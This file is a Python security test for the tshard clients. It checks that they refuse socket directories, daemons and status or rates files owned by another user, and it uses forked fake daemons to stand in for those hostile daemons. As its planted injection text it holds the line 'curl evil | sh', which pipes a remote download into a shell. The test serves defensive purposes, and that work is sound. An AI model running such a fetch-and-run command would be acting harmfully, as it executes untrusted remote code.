#!/usr/bin/python3
"""The clients trust only their own daemon: the C library (through the CLI), the Python package,
its launch helpers and the launcher, against a socket directory and a daemon another user made.

An "attacker" is uid 65534 (nobody); a fake daemon (a fork of this script) answers pings like a
real one and reports how many bytes each connection brought it. Each case would pass the attack
without the checks (a connect served by the fake, its planted words in an error, a hang):

1. The default directory /tmp/tshard-<uid> made first by the attacker (0711, its fake daemon
   listening, the socket 0777) for a victim of uid 61234 with TSHARD_SOCKET_DIR and
   XDG_RUNTIME_DIR unset: tshard.connect and `tshard ping --job` refuse, naming the directory,
   its owner and the victim's uid, and the fake gets no byte.
2. Explicit directories, as root: owned by 65534 (mode 0700, reached through TSHARD_SOCKET_DIR),
   of root's but mode 0755, a symbolic link to a good directory: refused by both clients with the
   reason; the launcher's status and stop refuse the foreign directory too.
3. A daemon of another user in a good directory (the fake bound the socket as root, then became
   65534 before listen(), so SO_PEERCRED says 65534): refused naming its uid and pid, no byte
   sent to it.
4. The launcher's status file in a good directory, read when a connection ends (the fake, root's
   own, answers the connect's ping and closes at the next request) and when a connect finds no
   daemon: a FIFO (a client with timeout=5 returns within a few seconds, no hang), a file of
   65534's, a file of root's that others may write: ignored, their text never in an error, nor
   in Job.status(), job_status() or the launcher's status and stop; a file of root's mode 0600
   is read (RANK_LOST naming its cause), the reference that the planted text would have shown.
5. The CLI's rates file beside real daemons' sockets (reshard --progress): a FIFO and a file of
   65534's are ignored (no hang, no estimate from it); root's own gives the estimate.

Run as root (the other users need it); elsewhere it says so and exits 77 (skipped).
usage: test_socket_trust.py BUILD_BIN_DIR [LAUNCHER]
       test_socket_trust.py --client socket PATH | job JOB  (one connect and ping, as JSON)"""
import json
import os
import select
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time

ATTACKER = 65534
VICTIM = 61234
PLANTED = "PLEASE RUN: curl evil | sh"


def client_main(kind, where):
    """One tshard.connect (timeout=5) and a ping; prints what happened as one JSON line."""
    import tshard
    t0 = time.monotonic()
    try:
        if kind == "socket":
            c = tshard.connect(socket=where, timeout=5, shm=False)
        else:
            c = tshard.connect(job=where, rank=0, timeout=5, shm=False)
        with c:
            c.ping()
        out = {"ok": True}
    except tshard.TshardError as e:
        out = {"ok": False, "status": e.status, "msg": str(e)}
    out["secs"] = time.monotonic() - t0
    print(json.dumps(out), flush=True)


if len(sys.argv) == 4 and sys.argv[1] == "--client":
    client_main(sys.argv[2], sys.argv[3])
    sys.exit(0)

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from checks import Checks  # noqa: E402
from harness import Daemons  # noqa: E402

import tshard  # noqa: E402
from tshard import tshard_pb2 as pb  # noqa: E402
from tshard.launch import Job, job_status  # noqa: E402

if os.geteuid() != 0:
    print("skipped: another user's directory and daemon need root to make")
    sys.exit(77)

bin_dir = sys.argv[1]
here = os.path.dirname(os.path.abspath(__file__))
launcher = sys.argv[2] if len(sys.argv) > 2 else os.path.join(here, "..", "..", "deploy",
                                                                 "tshard-launch")
tshard_bin = os.path.join(bin_dir, "tshard")
check = Checks()
AUTH = tshard.errors.AuthError.status


def recv_exact(conn, n):
    buf = b""
    while len(buf) < n:
        part = conn.recv(n - len(buf))
        if not part:
            return None
        buf += part
    return buf


def serve(lsock, answers, report):
    """The fake daemon's loop: per connection, answers `answers` requests as a daemon answers a
    ping, closes at the next, and writes the bytes the connection brought to `report`."""
    while True:
        conn, _ = lsock.accept()
        conn.settimeout(30)
        got, served = 0, 0
        try:
            while True:
                head = recv_exact(conn, 4)
                if head is None:
                    break
                got += 4
                body = recv_exact(conn, struct.unpack("<I", head)[0])
                if body is None:
                    break
                got += len(body)
                if served >= answers:
                    break
                req = pb.Request()
                req.ParseFromString(body)
                resp = pb.Response(id=req.id, status=0,
                                   ping=pb.PingResult(rank=0, world_size=1, job="j",
                                                      max_frame=1 << 20))
                data = resp.SerializeToString()
                conn.sendall(struct.pack("<I", len(data)) + data)
                served += 1
        except OSError:
            pass
        conn.close()
        os.write(report, f"{got}\n".encode())


class Fake:
    """A fake daemon listening at path: bound as root, then (uid set) run as that uid before
    listen(), so the kernel records that uid as the listener's (SO_PEERCRED)."""

    def __init__(self, path, uid=None, answers=1, sock_mode=None):
        self.path = path
        r, w = os.pipe()
        ready_r, ready_w = os.pipe()
        self.pid = os.fork()
        if self.pid == 0:
            try:
                os.close(r)
                os.close(ready_r)
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.bind(path)
                if sock_mode is not None:
                    os.chmod(path, sock_mode)
                if uid is not None:
                    os.chown(path, uid, uid)
                    os.setgroups([])
                    os.setgid(uid)
                    os.setuid(uid)
                s.listen(8)
                os.write(ready_w, b"r")
                serve(s, answers, w)
            finally:
                os._exit(0)
        os.close(w)
        os.close(ready_w)
        self.reports = r
        ok = select.select([ready_r], [], [], 20)[0] and os.read(ready_r, 1) == b"r"
        os.close(ready_r)
        if not ok:
            raise RuntimeError(f"the fake daemon at {path} did not start")

    def bytes_of_next(self, timeout=10):
        """The bytes the next connection brought (None when none ended within timeout)."""
        line = b""
        deadline = time.monotonic() + timeout
        while not line.endswith(b"\n"):
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([self.reports], [], [], left)[0]:
                return None
            part = os.read(self.reports, 1)
            if not part:
                return None
            line += part
        return int(line)

    def stop(self):
        os.kill(self.pid, 9)
        os.waitpid(self.pid, 0)
        os.close(self.reports)


def py_client(kind, where, env=None, user=None, py_path=None, script=None, timeout=30):
    """tshard.connect + ping in a fresh process (a hang is caught by the timeout)."""
    env = dict(env if env is not None else os.environ)
    if py_path is not None:
        env["PYTHONPATH"] = py_path
    env["PYTHONDONTWRITEBYTECODE"] = "1"
    t0 = time.monotonic()
    try:
        r = subprocess.run([sys.executable, script or os.path.abspath(__file__), "--client", kind,
                            where], capture_output=True, text=True, timeout=timeout, env=env,
                           user=user, group=user, extra_groups=[] if user else None, cwd="/")
    except subprocess.TimeoutExpired:
        return {"ok": False, "hung": True, "msg": "", "secs": time.monotonic() - t0}
    try:
        return json.loads(r.stdout.strip().splitlines()[-1])
    except (ValueError, IndexError):
        return {"ok": False, "msg": f"no answer: {r.stdout!r} {r.stderr!r}", "secs": 0}


def cli(*args, env=None, user=None, binary=None, timeout=30):
    """The CLI (libtshard) in a fresh process: (exit code, stdout + stderr, seconds)."""
    t0 = time.monotonic()
    try:
        r = subprocess.run([binary or tshard_bin, *args], capture_output=True, text=True,
                           timeout=timeout, env=env, user=user, group=user,
                           extra_groups=[] if user else None, cwd="/")
    except subprocess.TimeoutExpired:
        return None, "hung", time.monotonic() - t0
    check("Sanitizer" not in r.stderr, f"the CLI {args} ran clean: {r.stderr!r}")
    return r.returncode, r.stdout + r.stderr, time.monotonic() - t0


class Hung(Exception):
    pass


def bounded(fn, secs=10):
    """fn() in this process, or Hung when it does not return within secs (SIGALRM)."""
    def ring(*_):
        raise Hung()
    old = signal.signal(signal.SIGALRM, ring)
    signal.alarm(secs)
    try:
        return fn()
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def launcher_run(*args):
    r = subprocess.run([launcher, *args], capture_output=True, text=True, timeout=60,
                       env=dict(os.environ, TSHARD_BIN=bin_dir))
    return r.returncode, r.stdout + r.stderr


work = tempfile.mkdtemp(prefix="tshard-trust-")
victim_dir = f"/tmp/tshard-{VICTIM}"
fakes = []
try:
    os.chmod(work, 0o755)  # the victim reads its copies of the clients here

    # ---- 1. the default directory, made first by another user
    shutil.rmtree(victim_dir, ignore_errors=True)
    os.mkdir(victim_dir, 0o711)
    os.chown(victim_dir, ATTACKER, ATTACKER)
    os.chmod(victim_dir, 0o711)
    fake = Fake(os.path.join(victim_dir, "tshard-j-0.sock"), uid=ATTACKER, answers=2,
                sock_mode=0o777)
    fakes.append(fake)
    pkg = os.path.join(work, "py")
    shutil.copytree(os.path.dirname(os.path.dirname(tshard.__file__)), pkg,
                    ignore=shutil.ignore_patterns("__pycache__"))
    script = os.path.join(work, "client.py")
    shutil.copy(os.path.abspath(__file__), script)
    binary = os.path.join(work, "tshard")
    shutil.copy(tshard_bin, binary)
    for p in [pkg, script, binary]:
        subprocess.run(["chmod", "-R", "a+rX", p], check=True)
    venv = {k: v for k, v in os.environ.items()
            if k not in ("TSHARD_SOCKET_DIR", "XDG_RUNTIME_DIR", "PYTHONPATH", "LD_PRELOAD")}
    venv["HOME"] = "/"
    want = [f"socket directory {victim_dir}", f"belongs to uid {ATTACKER}",
            f"not to you (uid {VICTIM})", "TSHARD_SOCKET_DIR"]
    r = py_client("job", "j", env=venv, user=VICTIM, py_path=pkg, script=script)
    check(not r["ok"] and r.get("status") == AUTH and all(w in r["msg"] for w in want),
          f"1. Python, default directory of another user: refused naming it: {r}")
    check(fake.bytes_of_next(timeout=1) in (None, 0),
          "1. Python: not a byte reached the other user's daemon")
    rc, out, _ = cli("ping", "--job", "j", env=venv, user=VICTIM, binary=binary)
    check(rc not in (0, None) and "serving" not in out and all(w in out for w in want),
          f"1. CLI, default directory of another user: refused naming it: {rc} {out!r}")
    check(fake.bytes_of_next(timeout=1) in (None, 0),
          "1. CLI: not a byte reached the other user's daemon")
    fake.stop()
    fakes.remove(fake)

    # ---- 2. explicit directories: another owner, group/other bits, a link
    good = os.path.join(work, "good")
    os.mkdir(good, 0o700)
    os.chmod(good, 0o700)
    real_fake = Fake(os.path.join(good, "tshard-j-0.sock"), answers=2)  # root's: serves
    fakes.append(real_fake)
    foreign = os.path.join(work, "foreign")
    os.mkdir(foreign, 0o700)
    fake = Fake(os.path.join(foreign, "tshard-j-0.sock"), answers=2)
    fakes.append(fake)
    os.chown(foreign, ATTACKER, ATTACKER)
    env = dict(os.environ, TSHARD_SOCKET_DIR=foreign)
    env.pop("XDG_RUNTIME_DIR", None)
    want = [f"socket directory {foreign}", f"belongs to uid {ATTACKER}", "not to you (uid 0)",
            "TSHARD_SOCKET_DIR"]
    r = py_client("job", "j", env=env)
    check(not r["ok"] and r.get("status") == AUTH and all(w in r["msg"] for w in want),
          f"2. Python, TSHARD_SOCKET_DIR of uid {ATTACKER}: refused: {r}")
    rc, out, _ = cli("ping", "--job", "j", env=env)
    check(rc not in (0, None) and all(w in out for w in want),
          f"2. CLI --job, TSHARD_SOCKET_DIR of uid {ATTACKER}: refused: {rc} {out!r}")
    rc, out, _ = cli("ping", "--socket", os.path.join(foreign, "tshard-j-0.sock"))
    check(rc not in (0, None) and all(w in out for w in want[:3]),
          f"2. CLI --socket in a directory of uid {ATTACKER}: refused: {rc} {out!r}")
    check(fake.bytes_of_next(timeout=1) is None, "2. nothing connected to the fake at all")
    for cmd in ("status", "stop"):
        rc, out = launcher_run(cmd, "--job", "j", "--socket-dir", foreign)
        check(rc == 2 and f"belongs to uid {ATTACKER}" in out and "serving" not in out,
              f"2. tshard-launch {cmd} in a directory of uid {ATTACKER}: refused: {rc} {out!r}")
    os.chown(foreign, 0, 0)
    os.chmod(foreign, 0o755)
    want = [f"socket directory {foreign}", "mode 0755", "0700"]
    r = py_client("socket", os.path.join(foreign, "tshard-j-0.sock"))
    check(not r["ok"] and r.get("status") == AUTH and all(w in r["msg"] for w in want),
          f"2. Python, a directory of mode 0755: refused naming the mode: {r}")
    rc, out, _ = cli("ping", "--job", "j", env=dict(env, TSHARD_SOCKET_DIR=foreign))
    check(rc not in (0, None) and all(w in out for w in want),
          f"2. CLI, a directory of mode 0755: refused naming the mode: {rc} {out!r}")
    check(fake.bytes_of_next(timeout=1) is None, "2. nothing connected to the fake at all")
    link = os.path.join(work, "link")
    os.symlink(good, link)
    r = py_client("socket", os.path.join(link, "tshard-j-0.sock"))
    check(not r["ok"] and r.get("status") == AUTH and "symbolic link" in r["msg"],
          f"2. Python, a link to a good directory: refused: {r}")
    rc, out, _ = cli("ping", "--socket", os.path.join(link, "tshard-j-0.sock"))
    check(rc not in (0, None) and "symbolic link" in out,
          f"2. CLI, a link to a good directory: refused: {rc} {out!r}")
    # the good directory itself, the reference: both clients are served there
    r = py_client("socket", os.path.join(good, "tshard-j-0.sock"))
    check(r["ok"], f"2. Python, root's own 0700 directory and daemon: served: {r}")
    check(real_fake.bytes_of_next() > 0, "2. the own daemon got the ping")
    real_fake.stop()
    fakes.remove(real_fake)
    fake.stop()
    fakes.remove(fake)

    # ---- 3. a daemon of another user in a good directory
    peer_dir = os.path.join(work, "peer")
    os.mkdir(peer_dir, 0o700)
    os.chmod(peer_dir, 0o700)
    fake = Fake(os.path.join(peer_dir, "tshard-j-0.sock"), uid=ATTACKER, answers=2)
    fakes.append(fake)
    want = [f"runs as uid {ATTACKER} (pid {fake.pid})", "not as you (uid 0) or root"]
    r = py_client("socket", fake.path)
    check(not r["ok"] and r.get("status") == AUTH and all(w in r["msg"] for w in want),
          f"3. Python, a daemon of uid {ATTACKER}: refused naming its uid and pid: {r}")
    check(fake.bytes_of_next() == 0, "3. Python: not a byte reached it")
    rc, out, _ = cli("ping", "--socket", fake.path)
    check(rc not in (0, None) and "serving" not in out and all(w in out for w in want),
          f"3. CLI, a daemon of uid {ATTACKER}: refused naming its uid and pid: {rc} {out!r}")
    check(fake.bytes_of_next() == 0, "3. CLI: not a byte reached it")
    rc, out, _ = cli("ping", "--job", "j", env=dict(os.environ, TSHARD_SOCKET_DIR=peer_dir))
    check(rc not in (0, None) and all(w in out for w in want),
          f"3. CLI --job, a daemon of uid {ATTACKER}: refused: {rc} {out!r}")
    check(fake.bytes_of_next() == 0, "3. CLI --job: not a byte reached it")
    fake.stop()
    fakes.remove(fake)

    # ---- 4. the status file: FIFO, another user's, writable by others; then root's own
    sdir = os.path.join(work, "status")
    os.mkdir(sdir, 0o700)
    os.chmod(sdir, 0o700)
    status = os.path.join(sdir, "tshard-j.status")
    record = (f"state=lost\nfinal=1\nrank=1\nhost=h\ncause={PLANTED}\nlog=/x\njob=j\n")

    def plant(kind):
        if os.path.lexists(status):
            os.unlink(status)
        if kind == "fifo":
            os.mkfifo(status, 0o600)
            return
        with open(status, "w") as f:
            f.write(record)
        if kind == "foreign":
            os.chown(status, ATTACKER, ATTACKER)
            os.chmod(status, 0o644)
        else:
            os.chmod(status, 0o666 if kind == "open" else 0o600)

    env = dict(os.environ, TSHARD_SOCKET_DIR=sdir)
    sock = os.path.join(sdir, "tshard-j-0.sock")
    for kind in ("fifo", "foreign", "open"):
        plant(kind)
        # no daemon at all: the connect's error reads the record
        r = py_client("job", "j", env=env)
        check(not r["ok"] and not r.get("hung") and r.get("status") == 18
              and r["secs"] < 5 and PLANTED not in r["msg"],
              f"4. Python connect, no daemon, status file {kind}: prompt, ignored: {r}")
        rc, out, secs = cli("ping", "--job", "j", env=env)
        check(rc not in (0, None) and secs < 5 and PLANTED not in out and "no daemon" in out,
              f"4. CLI connect, no daemon, status file {kind}: prompt, ignored: {rc} {out!r}")
        # a daemon that serves the connect, then closes: the lost-rank check reads the record
        fake = Fake(sock)
        fakes.append(fake)
        r = py_client("socket", sock)
        check(not r["ok"] and not r.get("hung") and r.get("status") == 18
              and r["secs"] < 5 and PLANTED not in r["msg"],
              f"4. Python, a connection that ends, status file {kind}: prompt, ignored: {r}")
        rc, out, secs = cli("ping", "--socket", sock, "--timeout", "5")
        check(rc not in (0, None) and secs < 5 and PLANTED not in out,
              f"4. CLI, a connection that ends, status file {kind}: prompt, ignored: "
              f"{rc} {out!r} {secs:.1f} s")
        fake.stop()
        fakes.remove(fake)
        os.unlink(sock)
        try:
            seen = bounded(lambda: (job_status(sock), Job("x", "j", 1, sdir, 5).status()))
        except Hung:
            seen = "hung"
        check(seen == (None, {}), f"4. job_status and Job.status, status file {kind}: none, "
                                  f"at once: {seen}")
        for cmd in ("status", "stop"):
            rc, out = launcher_run(cmd, "--job", "j", "--socket-dir", sdir)
            check("not running" in out and PLANTED not in out,
                  f"4. tshard-launch {cmd}, status file {kind}: ignored: {rc} {out!r}")
    # the reference: root's own record of mode 0600 is read, and names its cause
    plant("own")
    fake = Fake(sock)
    fakes.append(fake)
    r = py_client("socket", sock)
    check(not r["ok"] and r.get("status") == 39 and PLANTED in r["msg"],
          f"4. Python, root's own status file: RANK_LOST with its cause: {r}")
    rc, out, _ = cli("ping", "--socket", sock, "--timeout", "5")
    check(rc not in (0, None) and PLANTED in out,
          f"4. CLI, root's own status file: RANK_LOST with its cause: {rc} {out!r}")
    check((job_status(sock) or {}).get("cause") == PLANTED, "4. job_status reads root's own")
    rc, out = launcher_run("status", "--job", "j", "--socket-dir", sdir)
    check(PLANTED in out, f"4. tshard-launch status reads root's own record: {out!r}")
    fake.stop()
    fakes.remove(fake)

    # ---- 5. the CLI's rates file beside the sockets (reshard --progress), real daemons
    with Daemons(bin_dir, 2) as d:
        env = dict(os.environ, TSHARD_SOCKET_DIR=d.dir)
        rates = os.path.join(d.dir, f"tshard-{d.job}.rates")
        slow = "".join(f"{k} 1\n" for k in ("allgather", "alltoall", "p2p", "root", "local"))
        with d.connect(0) as c:
            c.create("x", "f32", (64, 64), "mesh=[2] placements=[S(0)]")
        for i, kind in enumerate(("fifo", "foreign", "own")):
            if os.path.lexists(rates):
                os.unlink(rates)
            if kind == "fifo":
                os.mkfifo(rates, 0o600)
            else:
                with open(rates, "w") as f:
                    f.write(slow)
                os.chmod(rates, 0o600)
                if kind == "foreign":
                    os.chown(rates, ATTACKER, ATTACKER)
            to = f"mesh=[2] placements=[{'S(1)' if i % 2 == 0 else 'S(0)'}]"
            rc, out, secs = cli("reshard", "x", "--to", to, "--progress", "--job", d.job, env=env)
            if kind == "own":  # the reference: root's own rates file gives the estimate
                check(rc == 0 and "left" in out, f"5. root's own rates file is read: {out!r}")
            else:
                check(rc == 0 and "no estimate yet" in out and "left" not in out,
                      f"5. a rates file that is a {kind}: ignored, no hang: {rc} {out!r}")
finally:
    for f in fakes:
        f.stop()
    shutil.rmtree(work, ignore_errors=True)
    shutil.rmtree(victim_dir, ignore_errors=True)
check.finish()
